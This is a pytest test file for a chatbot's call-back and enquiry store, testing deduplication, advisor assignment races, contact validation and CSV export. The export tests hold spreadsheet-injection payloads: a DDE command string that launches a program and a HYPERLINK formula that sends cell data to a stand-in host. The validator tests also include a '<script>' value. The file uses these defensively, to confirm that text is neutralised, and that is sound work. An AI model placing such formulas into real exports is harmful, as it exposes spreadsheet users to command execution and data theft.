"""Call-back requests and enquiries: kept once, owned by one, exported without harm."""

from __future__ import annotations

import csv
import io
import threading

import pytest

from bot.conversations import contact, spreadsheet
from bot.conversations.database import Database
from bot.conversations.errors import AlreadyTaken, ConversationNotFound
from bot.conversations.log import ConversationLog
from bot.conversations.model import Advisor, Reply, Wish
from bot.conversations.work_items import CSV_HEAD, Kind, State, WorkItemNotFound, WorkItems
from tests.conversations.conftest import HandClock

MARA, JONAS = Advisor(1, "Mara"), Advisor(2, "Jonas")
WISH = Wish("Ana Sorel", "+41 79 555 01 23", about="My mother's treatment", best_time="after 6 pm")


@pytest.fixture
def items(database: Database, clock: HandClock) -> WorkItems:
    return WorkItems(database, clock)


@pytest.fixture
def conversation(log: ConversationLog) -> str:
    return log.create([Reply("smalltalk", "Hello.")]).id


def test_a_request_arrives_open_and_without_owner(
    items: WorkItems, conversation: str, clock: HandClock
) -> None:
    number = items.add_callback(conversation, WISH)
    item = items.get(number)
    assert (item.kind, item.state, item.owner_name) == (Kind.CALLBACK, State.OPEN, None)
    assert (item.name, item.contact, item.about) == (WISH.name, WISH.contact, WISH.about)
    assert (item.conversation_id, item.consent_at) == (conversation, clock.now)


def test_the_form_sent_twice_is_one_request_with_the_last_words(items: WorkItems, conversation: str) -> None:
    first = items.add_callback(conversation, WISH)
    assert items.add_callback(conversation, Wish("Ana Sorel", "ana@example.org")) == first
    (item,) = items.list()
    assert (item.contact, item.about) == ("ana@example.org", "")


def test_a_request_that_somebody_works_on_is_not_overwritten(items: WorkItems, conversation: str) -> None:
    first = items.add_callback(conversation, WISH)
    items.set_state(first, State.DOING)
    assert items.add_callback(conversation, Wish("Ana", "ana@example.org")) != first
    assert items.get(first).contact == WISH.contact
    items.add_enquiry(conversation, WISH)
    assert [item.kind for item in items.list(kind=Kind.ENQUIRY)] == [Kind.ENQUIRY]


def test_a_request_needs_its_conversation_and_a_contact(items: WorkItems, conversation: str) -> None:
    with pytest.raises(ConversationNotFound):
        items.add_callback("no such conversation", WISH)
    with pytest.raises(contact.NoContact):
        items.add_callback(conversation, Wish("Ana", "call me"))
    assert items.list() == []


def test_long_texts_are_cut_not_refused(items: WorkItems, conversation: str) -> None:
    item = items.get(items.add_callback(conversation, Wish("n" * 500, "a@b.example", about="x" * 9_000)))
    assert len(item.name) == 120
    assert len(item.about) == 2_000


def test_lists_by_state_kind_and_owner(items: WorkItems, log: ConversationLog, clock: HandClock) -> None:
    numbers = []
    for _ in range(4):
        clock.forward(1_000)
        numbers.append(items.add_callback(log.create([]).id, WISH))
    items.assign(numbers[1], MARA)
    items.set_state(numbers[0], "done")
    items.set_state(numbers[3], "doing")
    assert [item.id for item in items.list()] == [numbers[1], numbers[2], numbers[3], numbers[0]]
    assert [item.id for item in items.list(state=State.OPEN)] == [numbers[1], numbers[2]]
    assert [item.id for item in items.list(owner=MARA.id)] == [numbers[1]]
    assert items.counts() == {"open": 2, "doing": 1, "done": 1, "dropped": 0}


def test_a_colleagues_item_is_not_taken_by_accident(items: WorkItems, conversation: str) -> None:
    number = items.add_callback(conversation, WISH)
    assert items.assign(number, MARA).owner_name == "Mara"
    assert items.assign(number, MARA).owner_id == MARA.id
    with pytest.raises(AlreadyTaken, match="Mara"):
        items.assign(number, JONAS)
    assert items.assign(number, JONAS, take_over=True).owner_name == "Jonas"
    assert items.assign(number, None).owner_id is None
    assert items.assign(number, MARA).owner_name == "Mara"


def test_of_many_who_reach_for_an_item_at_once_one_has_it(items: WorkItems, conversation: str) -> None:
    number = items.add_callback(conversation, WISH)
    won: list[int] = []
    refused: list[AlreadyTaken] = []
    ready = threading.Barrier(8)

    def reach(advisor: Advisor) -> None:
        ready.wait()
        try:
            items.assign(number, advisor)
            won.append(advisor.id)
        except AlreadyTaken as refusal:
            refused.append(refusal)

    threads = [threading.Thread(target=reach, args=(Advisor(each, f"A{each}"),)) for each in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(won) == 1
    assert len(refused) == 7
    assert items.get(number).owner_id == won[0]


def test_what_does_not_exist_is_said(items: WorkItems, conversation: str) -> None:
    for call in (items.get, lambda n: items.assign(n, MARA), lambda n: items.set_state(n, State.DONE)):
        with pytest.raises(WorkItemNotFound):
            call(12345)
    with pytest.raises(ValueError):
        items.set_state(items.add_callback(conversation, WISH), "lost")


def test_the_csv_reads_back_as_it_was_written(items: WorkItems, conversation: str) -> None:
    about = 'He said "no",\nthen\tyes; naïve — 日本語'
    items.assign(items.add_callback(conversation, Wish("Ana", "ana@example.org", about=about)), MARA)
    written = items.csv()
    assert written.startswith("\ufeff")
    head, row = csv.reader(io.StringIO(written.lstrip("\ufeff"), newline=""))
    assert tuple(head) == CSV_HEAD
    told = dict(zip(head, row, strict=True))
    assert told["about"] == 'He said "no", then yes; naïve — 日本語'
    assert (told["owner"], told["state"], told["conversation"]) == ("Mara", "open", conversation)
    assert told["asked at (UTC)"] == "1970-01-01 00:16:40"


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+41 79 555 01 23",
        "-2+3",
        "@SUM(A1)",
        "  =cmd|' /C calc'!A0",
        "\t=1",
        "\r\n=1",
        "\u00a0=1",
        "\u200b=1",
        "\ufeff@x",
        "\uff1d1+1",  # full-width =
        "\uff0b1",
        "|calc",
        "%0a=1",
        '=HYPERLINK("https://bad.example/?"&A1)',
    ],
)
def test_no_text_of_a_patient_becomes_a_formula(items: WorkItems, conversation: str, text: str) -> None:
    items.add_callback(conversation, Wish(text, "+41795550123", about=text, best_time=text, country=text))
    rows = list(csv.reader(io.StringIO(items.csv().lstrip("\ufeff"), newline="")))
    told = dict(zip(rows[0], rows[1], strict=True))
    for column in ("name", "about", "best time", "country", "contact"):
        assert told[column].startswith("'"), column
        assert not set(told[column]) & set("\r\n\t"), column
    assert spreadsheet.cell(told["about"]) == told["about"]  # once is enough


def test_harmless_text_is_left_alone() -> None:
    for text in ("Ana", "1+1=2", "5 pm", "a@b.example", "O'Hara", ""):
        assert spreadsheet.cell(text) == text
    assert spreadsheet.cell(None) == ""


@pytest.mark.parametrize(
    ("written", "kept"),
    [
        (" ana.sorel+nk@klinik-see.example.org ", "ana.sorel+nk@klinik-see.example.org"),
        ("müller@bücher.example", "müller@bücher.example"),
        ("+41 79 555 01 23", "+41 79 555 01 23"),
        ("(030) 123-456/78", "(030) 123-456/78"),
        ("555 0123 ext. 12", "555 0123 ext. 12"),
        ("079  555\u00a001 23", "079 555 01 23"),
        ("٠٧٩ ٥٥٥ ٠١ ٢٣", "079 555 01 23"),
        ("\uff10\uff17\uff19\uff15\uff15\uff15", "079555"),
        ("ana@example.org,  +41 79 555 01 23", "ana@example.org, +41 79 555 01 23"),
    ],
)
def test_contacts_that_are_taken(written: str, kept: str) -> None:
    assert contact.checked(written) == kept


@pytest.mark.parametrize(
    "written",
    [
        "",
        "12345",
        "call me",
        "ana@",
        "@example.org",
        "ana@example",
        "ana@example..org",
        "ana@exa mple.org",
        "a@b@c.example",
        "<script>@example.org",
        "1234567890123456",
        "0" * 5_000,
        "ana@example.org, ",
        "ana@example.org, call me",
        "1234567, 1234568, 1234569, 1234560",
        "079 555 CALL",
        "=1+1",
        "\x00\x00",
        "x" * 300 + "@example.org",
    ],
)
def test_contacts_that_nobody_could_use(written: str) -> None:
    with pytest.raises(contact.NoContact):
        contact.checked(written)
